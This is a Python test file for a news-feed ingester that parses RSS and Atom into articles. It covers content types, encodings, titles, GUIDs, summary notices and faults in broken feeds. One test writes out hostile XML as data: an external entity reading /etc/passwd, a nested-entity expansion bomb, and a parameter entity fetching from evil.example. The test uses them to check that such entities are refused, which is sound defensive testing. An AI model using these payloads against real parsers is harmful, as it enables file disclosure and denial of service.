"""RSS and Atom: each entry an article, whole or with a notice; nothing of XML's dangers."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from tests.ingest.packing import RSS, articles, found, the_body, told
from tests.ingest.writing import SIMPLIFIED, marked, shown, texts
from translate.errors import IngestError

RDF = f"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel rdf:about="https://news.example/"><title>河城日报</title><items/></channel>
<item rdf:about="https://news.example/a/2"><title>新馆</title><dc:date>2026-01-01T18:00:00+08:00</dc:date>
<content:encoded>&lt;p&gt;{SIMPLIFIED}&lt;/p&gt;</content:encoded></item></rdf:RDF>"""


def atom(entry: str, attributes: str = "") -> str:
    return (
        f'<feed xmlns="http://www.w3.org/2005/Atom" {attributes}><title>河城日报</title><entry><title>新馆</title>'
        f'<link rel="self" href="https://news.example/a/1.atom"/><link href="https://news.example/a/1"/>'
        f"<id>tag:news.example,2026:1</id><published>2026-01-01T10:00:00Z</published>{entry}</entry></feed>"
    )


def rss(item: str) -> str:
    return f'<rss version="2.0"><channel><title>河城日报</title><item>{item}</item></channel></rss>'


def test_rss_2_with_its_fields() -> None:
    (article,) = articles(RSS, "feed.xml")
    assert (article.source, article.url) == ("feed.xml#1", "https://news.example/a/1")
    assert article.date == datetime(2026, 1, 1, 10, tzinfo=UTC)
    assert shown(article) == ["title: 河城新馆", f"paragraph: {SIMPLIFIED}"]
    assert article.notices == ()


def test_rss_1_has_its_address_in_rdf_about() -> None:
    (article,) = articles(RDF, "feed.rdf")
    assert article.url == "https://news.example/a/2"
    assert article.date == datetime(2026, 1, 1, 10, tzinfo=UTC)
    assert texts(article) == [SIMPLIFIED]


@pytest.mark.parametrize(
    "content",
    [
        f"<content>{SIMPLIFIED}</content>",
        f'<content type="text">{SIMPLIFIED}</content>',
        f'<content type="html">&lt;p&gt;{SIMPLIFIED}&lt;/p&gt;</content>',
        f'<content type="html"><![CDATA[<p>{SIMPLIFIED}</p>]]></content>',
        f'<content type="text/html"><![CDATA[<div>{SIMPLIFIED}</div>]]></content>',
        f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>{SIMPLIFIED}</p></div></content>',
        f'<content type="xhtml"><h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:p>{SIMPLIFIED}</h:p></h:div></content>',
    ],
)
def test_atom_content_of_every_type(content: str) -> None:
    (article,) = articles(atom(f"<summary>摘要</summary>{content}"), "feed.atom")
    assert (article.url, texts(article), article.notices) == ("https://news.example/a/1", [SIMPLIFIED], ())
    assert article.date == datetime(2026, 1, 1, 10, tzinfo=UTC)


def test_atom_xhtml_keeps_its_markup_and_what_is_escaped_in_it() -> None:
    inside = '<p>一<br/>二 &amp; &lt;三&gt;<a href="https://b.example/?a=1&amp;b=2">四</a>五</p><p/><p>六</p>'
    content = f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{inside}</div></content>'
    (article,) = articles(atom(content), "feed.atom")
    assert texts(article) == ["一二 & <三>四五", "六"]
    assert marked(article) == ["link 四 https://b.example/?a=1&b=2"]


def test_links_in_atom_xhtml_survive_and_relative_ones_have_a_base() -> None:
    content = '<content type="html">&lt;p&gt;看&lt;a href="../b"&gt;报道&lt;/a&gt;。&lt;/p&gt;</content>'
    (article,) = articles(atom(content), "feed.atom")
    assert marked(article) == ["link 报道 https://news.example/b"]


def test_an_address_relative_to_xml_base() -> None:
    text = atom("", 'xml:base="https://news.example/z/"').replace(
        '<link href="https://news.example/a/', '<link href="'
    )
    (article,) = articles(text, "feed.atom")
    assert article.url == "https://news.example/z/1"


@pytest.mark.parametrize(
    "content",
    [
        atom("<summary>市长说，新馆开放了。</summary>"),
        atom('<summary>市长说，新馆开放了。</summary><content src="https://news.example/a/1"/>'),
        rss("<title>新馆</title><description>市长说，新馆开放了。</description>"),
        rss(f"<title>新馆</title><description>{SIMPLIFIED * 4}……阅读全文</description>"),
    ],
)
def test_a_summary_alone_is_read_with_a_notice(content: str) -> None:
    (article,) = articles(content, "feed.xml")
    assert article.notices == ("holds only a summary; the whole text was not in the feed",)


def test_a_long_description_is_the_whole_text() -> None:
    (article,) = articles(rss(f"<title>新馆</title><description>{SIMPLIFIED * 5}</description>"), "feed.xml")
    assert article.notices == ()


@pytest.mark.parametrize(
    ("title", "shown_as"),
    [
        ("新馆 &amp; 旧馆", "新馆 & 旧馆"),
        ("<![CDATA[新馆 & 旧馆]]>", "新馆 & 旧馆"),
        ("新馆 & 旧馆", "新馆 & 旧馆"),
        ("&lt;b&gt;新馆&lt;/b&gt; &amp;amp; 旧馆", "新馆 & 旧馆"),
        ("新馆&nbsp;&middot;&nbsp;旧馆", "新馆 · 旧馆"),
        ("新馆&unknown; 旧馆", "新馆&unknown; 旧馆"),
        ("新\x0b馆 &#x65E7;", "新馆 旧"),
    ],
)
def test_titles_as_feeds_really_write_them(title: str, shown_as: str) -> None:
    (article,) = articles(rss(f"<title>{title}</title><description>{SIMPLIFIED}</description>"), "feed.xml")
    assert article.blocks[0].zh == shown_as


@pytest.mark.parametrize("encoding", ["gb2312", "gb18030", "utf-16", "utf-8-sig"])
def test_encodings_are_told_by_the_bytes(encoding: str) -> None:
    for declared in ("utf-8", "gb2312"):
        text = RSS.replace('encoding="UTF-8"', f'encoding="{declared}"')
        assert the_body(text.encode(encoding), "feed.xml") == [SIMPLIFIED]


def test_an_ampersand_is_one_in_cdata_and_out_of_it() -> None:
    for address in (
        "<![CDATA[https://news.example/?a=1&b=2]]>",
        "https://news.example/?a=1&amp;b=2",
        "https://news.example/?a=1&b=2",
    ):
        feed = rss(
            f"<title>题</title><link>{address}</link><description><![CDATA[甲 & 乙&nbsp;丙]]></description>"
        )
        (article,) = articles(feed, "feed.xml")
        assert article.url == "https://news.example/?a=1&b=2"
        assert texts(article) == ["甲 & 乙 丙"]


def test_a_guid_names_an_entry_that_has_no_address() -> None:
    one = "<title>新馆</title><description>第一。</description><guid isPermaLink='false'>n-17</guid>"
    other = rss("<title>别的</title><description>第二。</description>").replace(
        "<item>", f"<item>{one}</item><item>", 1
    )
    (first,) = articles(rss(one), "feed.xml")
    second = articles(other, "feed.xml")
    assert second[0].id == first.id
    assert second[1].id != first.id


def test_a_home_page_as_every_entrys_address_does_not_make_them_one() -> None:
    item = "<item><title>新闻{}</title><link>https://news.example/</link><description>正文{}。</description></item>"
    feed = f"<rss><channel>{item.format(1, 1)}{item.format(2, 2)}</channel></rss>"
    assert len({article.id for article in articles(feed, "feed.xml")}) == 2


def test_an_image_and_an_enclosure() -> None:
    item = '<title>新馆</title><enclosure type="image/jpeg" url="https://i.example/a.jpg"/><description>正文。</description>'
    assert articles(rss(item), "feed.xml")[0].image == "https://i.example/a.jpg"


def test_an_entry_without_text_is_one_fault_and_the_others_go_on() -> None:
    items = "<item><link>https://news.example/a</link></item><item><title>新馆</title></item>"
    first, second = told(f"<rss><channel>{items}</channel></rss>", "feed.xml")
    assert first == "feed.xml#1: holds no text; export it again, or leave it out"
    assert second == "feed.xml#2 新馆"


def test_a_broken_feed_gives_what_came_before() -> None:
    first, second = told(RSS.replace("</channel>", "<item><title>半"), "feed.xml")
    assert first == "feed.xml#1 河城新馆"
    assert second.startswith("feed.xml:")
    assert "is broken XML (" in second
    assert second.endswith("fetch or export it again")


@pytest.mark.parametrize(
    ("content", "what"),
    [
        ("<urlset><url/></urlset>", "is XML, but no RSS or Atom feed"),
        ("<rss><channel/></rss>", "holds no entries"),
        ("not XML at all", "is XML, but no RSS or Atom feed"),
        (" ", "holds only white space"),
    ],
)
def test_xml_that_is_no_feed_is_one_fault(content: str, what: str) -> None:
    (fault,) = found(content, "sitemap.xml")
    assert isinstance(fault, IngestError)
    assert fault.what == what


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY a "哈"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;">]>',
        "<!-- " + "注" * 50_000 + " -->\n<!DOCTYPE rss [<!ENTITY x 'y'>]>",
        """<!DOCTYPE rss PUBLIC "a>b" 'c>d' [<!ENTITY x 'y'>]>""",
        '<!-- 注 --><!DOCTYPE rss SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_entities_of_a_documents_own_are_refused(doctype: str, encoding: str) -> None:
    feed = f"<?xml version='1.0'?>{doctype}<rss><channel><item><title>&x;新馆</title></item></channel></rss>"
    (line,) = told(feed.encode(encoding), "feed.xml")
    assert line.startswith("feed.xml: declares XML entities of its own")


def test_a_document_type_alone_is_fine_and_never_looked_up() -> None:
    feed = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://nowhere.example/rss.dtd">' + rss(
        "<title>新馆</title>"
    )
    assert told(feed, "feed.xml") == ["feed.xml#1 新馆"]


def test_a_page_that_quotes_a_document_type_is_no_danger() -> None:
    feed = rss(
        "<title>新馆</title><description><![CDATA[<p>写着 <!DOCTYPE a [<!ENTITY b 'c'>]></p>]]></description>"
    )
    assert told(feed, "feed.xml") == ["feed.xml#1 新馆"]


def test_a_page_called_xml_is_a_page() -> None:
    page = f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><p>{SIMPLIFIED}</p></body></html>"
    assert the_body(page, "a.xml") == [SIMPLIFIED]


def test_a_prefix_that_is_not_declared() -> None:
    """No good XML, which is told; what was read of it means what its usual prefixes say."""
    entry = f"<item><title>新馆</title><content:encoded>{SIMPLIFIED}</content:encoded></item>"
    article, fault = found(f"<rss><channel>{entry}</channel></rss>", "feed.xml")
    assert not isinstance(article, IngestError)
    assert texts(article) == [SIMPLIFIED]
    assert "Namespace prefix content on encoded is not defined" in str(fault)


def test_a_long_feed_is_cut_into_pieces_at_no_cost() -> None:
    """Pieces end inside tags, entities and characters."""
    item = "<item><title>新闻{} &amp; 甲</title><description>&lt;p&gt;{}&lt;/p&gt;</description></item>"
    many = "".join(item.format(n, SIMPLIFIED * (n % 7 + 1)) for n in range(300))
    read = articles(f"<rss><channel>{many}</channel></rss>", "feed.xml")
    assert [article.blocks[0].zh for article in read] == [f"新闻{n} & 甲" for n in range(300)]
    assert [texts(article) for article in read] == [[SIMPLIFIED * (n % 7 + 1)] for n in range(300)]


def test_one_text_longer_than_a_piece_stays_whole() -> None:
    long = "天地玄黄" * 20_000
    assert the_body(rss(f"<title>长</title><description>{long}</description>"), "feed.xml") == [long]
